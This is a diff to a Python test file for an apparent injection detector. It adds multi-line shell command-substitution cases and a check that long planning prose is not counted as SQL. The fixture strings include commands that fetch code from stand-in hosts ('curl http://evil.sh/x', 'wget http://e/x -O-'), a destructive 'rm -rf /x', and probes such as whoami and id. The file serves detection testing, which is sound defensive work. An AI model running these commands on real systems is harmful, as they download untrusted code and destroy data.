@@ -49,6 +49,10 @@ CODE = [
     "$(python -c 'print(1)')",  # a ")" inside the substitution's argument
     "note $(a b\nand then $(rm -rf /x) here",  # an unclosed "$(" on another line
     "$(a b" * 200 + ")",  # many starts, one ")" at the end of the line
+    "a=$(\ncurl http://evil.sh/x)",  # a substitution spread over lines
+    "x=$(curl\nhttp://evil.sh/x)",
+    "$(whoami\r\n)",
+    "name=$( \n  wget http://e/x -O- )",
     "$(whoami)",
     "`ls -al /`",  # a backticked command at the start of a line
     "x=`id`",
@@ -70,7 +74,8 @@ CODE = [
     "eval(compile('import os', '', 'single'))",
 ]
 CODE_LOOKALIKES = [
-    "$(a b" * 2000,  # substitutions never closed on their line (each "$(" once scanned to the end: quadratic)
+    "$(a b" * 2000,  # substitutions never closed (each "$(" once scanned to the line's end: quadratic)
+    "$(a b\n" * 2000 + ")",  # nor closed on their lines
     "$(a b\n)",
     "How do I use subprocess in Python to list files, and what does eval do?",
     "run the eval tomorrow and tell the system owner",
@@ -153,6 +158,10 @@ def test_sqli_stops_parsing_at_its_bounds_and_a_text_past_them_counts_as_sql() -
     slow = "".join(f"select {n}," + ",".join(["(1)"] * 600) + "\n" for n in range(MAX_SQL_STARTS))
     assert len(slow) > MAX_SQL_PARSE_CHARS and sqli(slow)
     assert not sqli("select " + ",".join(["(1)"] * 600))  # one such line is read whole, and is not code
+    # prose that sqlglot keeps as an unparsed command costs little and is not counted: a long one-line plan is prose
+    plan = " ".join(f"Step {i}: create a branch, alter the onboarding copy, and drop the rest to the next sprint; "
+                    f"then update the mockups and select two people to try it." for i in range(80))
+    assert not sqli(plan)
 
 
 def test_xss_reads_every_tag_in_one_scan() -> None:
